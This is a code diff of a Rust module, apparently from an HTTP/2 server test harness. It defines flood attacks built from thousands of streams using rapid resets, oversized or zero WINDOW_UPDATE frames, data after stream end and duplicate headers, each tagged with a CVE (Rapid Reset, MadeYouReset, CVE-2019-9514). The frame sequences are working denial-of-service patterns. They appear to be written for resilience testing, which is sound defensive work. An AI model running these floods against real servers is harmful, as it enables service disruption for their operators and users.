@@ -4,62 +4,98 @@ use conformance_wire::frames::{
     CANCEL, DATA, END_HEADERS, END_STREAM, Frame, HEADERS, RST_STREAM, WINDOW_UPDATE, header_block,
 };
 
-use super::{Attack, Means, POST_TO_ROOT, RUN, framed, streams};
-use serde_json::json;
+use super::{Attack, Means, POST_TO_ROOT, RUN, long, streams};
+use crate::attacker::{Piece, Reading};
 
 /// The largest increment of a window. A window is 65535 bytes before.
 const TOO_MUCH: u32 = 0x7fff_ffff;
+const MADE_YOU_RESET: &str = "MadeYouReset, CVE-2025-8671";
 
-pub(super) fn all(means: &Means) -> Vec<Attack> {
-    let count = 10_000 * means.scale;
-    let open = |stream| Frame::new(HEADERS, END_HEADERS, stream, POST_TO_ROOT);
-    let reset = |stream| Frame::new(RST_STREAM, 0, stream, CANCEL.to_be_bytes());
-    let head = header_block(&means.signed(RUN));
-    let long = framed(RUN, &json!({"gridSize": 256, "steps": 10_000}));
+pub(super) fn all() -> Vec<Attack> {
     vec![
-        // CVE-2023-44487.
-        Attack::new(
-            "rapid reset without a key",
-            4,
-            streams(count, |stream| {
-                vec![
-                    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, POST_TO_ROOT),
-                    reset(stream),
-                ]
-            }),
-        ),
-        Attack::new(
-            "rapid reset of computations",
-            4,
-            streams(count / 2, |stream| {
-                let head = Frame::new(HEADERS, END_HEADERS, stream, head.clone());
-                vec![head, Frame::body(long.clone(), stream), reset(stream)]
-            }),
-        ),
-        // CVE-2025-8671: the server resets, and so has the work of it.
-        Attack::new(
-            "made to reset by windows too large",
-            4,
-            streams(count, |stream| {
-                vec![open(stream), Frame::new(WINDOW_UPDATE, 0, stream, TOO_MUCH.to_be_bytes())]
-            }),
-        )
+        Attack::new("rapid reset without a key", 4, |means| {
+            streams(10_000 * means.form.scale, |stream| vec![ended(stream), reset(stream)])
+        })
+        .sends("streams that it resets at once")
+        .known_as("Rapid Reset, CVE-2023-44487"),
+        Attack::new("rapid reset of computations", 4, |means| {
+            computations(means, |stream| reset(stream))
+        })
+        .sends("signed calls that compute for long, and their resets")
+        .known_as("Rapid Reset, CVE-2023-44487"),
+        Attack::new("made to reset by windows too large", 4, |means| {
+            streams(10_000 * means.form.scale, |stream| {
+                vec![open(stream), widened(stream, TOO_MUCH)]
+            })
+        })
+        .sends("streams, and for each a WINDOW_UPDATE beyond the largest window")
+        .known_as(MADE_YOU_RESET)
         .that_must_end(),
-        Attack::new(
-            "made to reset by increments of nothing",
-            4,
-            streams(count, |stream| {
-                vec![open(stream), Frame::new(WINDOW_UPDATE, 0, stream, [0; 4])]
-            }),
-        )
+        Attack::new("made to reset by increments of nothing", 4, |means| {
+            streams(10_000 * means.form.scale, |stream| vec![open(stream), widened(stream, 0)])
+        })
+        .sends("streams, and for each a WINDOW_UPDATE of 0")
+        .known_as(MADE_YOU_RESET)
         .that_must_end(),
-        Attack::new(
-            "made to reset by data after the end",
-            4,
-            streams(count, |stream| {
-                let ended = Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, POST_TO_ROOT);
-                vec![ended, Frame::new(DATA, 0, stream, *b"more")]
-            }),
-        ),
+        Attack::new("made to reset by data after the end", 4, |means| {
+            streams(10_000 * means.form.scale, |stream| {
+                vec![ended(stream), Frame::new(DATA, 0, stream, *b"more")]
+            })
+        })
+        .sends("streams, and DATA after the end of each")
+        .known_as(MADE_YOU_RESET),
+        Attack::new("made to reset, and the resets not read", 4, |means| {
+            streams(10_000 * means.form.scale, |stream| {
+                vec![open(stream), widened(stream, TOO_MUCH)]
+            })
+        })
+        .sends("streams, and for each a WINDOW_UPDATE beyond the largest window; it reads nothing")
+        .known_as("CVE-2019-9514")
+        .reading(Reading::Nothing),
+        Attack::new("computations made to reset by windows too large", 4, |means| {
+            computations(means, |stream| widened(stream, TOO_MUCH))
+        })
+        .sends(
+            "signed calls that compute for long, and for each a WINDOW_UPDATE beyond the largest",
+        )
+        .known_as(MADE_YOU_RESET)
+        .that_must_end(),
+        Attack::new("computations made to reset by increments of nothing", 4, |means| {
+            computations(means, |stream| widened(stream, 0))
+        })
+        .sends("signed calls that compute for long, and for each a WINDOW_UPDATE of 0")
+        .known_as(MADE_YOU_RESET)
+        .that_must_end(),
+        Attack::new("computations made to reset by a second head", 4, |means| {
+            computations(means, |stream| ended(stream))
+        })
+        .sends("signed calls that compute for long, and for each HEADERS once more after its end")
+        .known_as(MADE_YOU_RESET)
+        .that_must_end(),
     ]
+}
+
+/// Signed calls that compute for long, each with a frame that ends it.
+fn computations(means: &Means, end: impl Fn(u32) -> Frame) -> Vec<Piece> {
+    let (head, long) = (header_block(&means.signed(RUN)), long());
+    streams(5000 * means.form.scale, |stream| {
+        let head = Frame::new(HEADERS, END_HEADERS, stream, head.clone());
+        vec![head, Frame::body(long.clone(), stream), end(stream)]
+    })
+}
+
+fn open(stream: u32) -> Frame {
+    Frame::new(HEADERS, END_HEADERS, stream, POST_TO_ROOT)
+}
+
+fn ended(stream: u32) -> Frame {
+    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, POST_TO_ROOT)
+}
+
+fn reset(stream: u32) -> Frame {
+    Frame::new(RST_STREAM, 0, stream, CANCEL.to_be_bytes())
+}
+
+fn widened(stream: u32, by: u32) -> Frame {
+    Frame::new(WINDOW_UPDATE, 0, stream, by.to_be_bytes())
 }
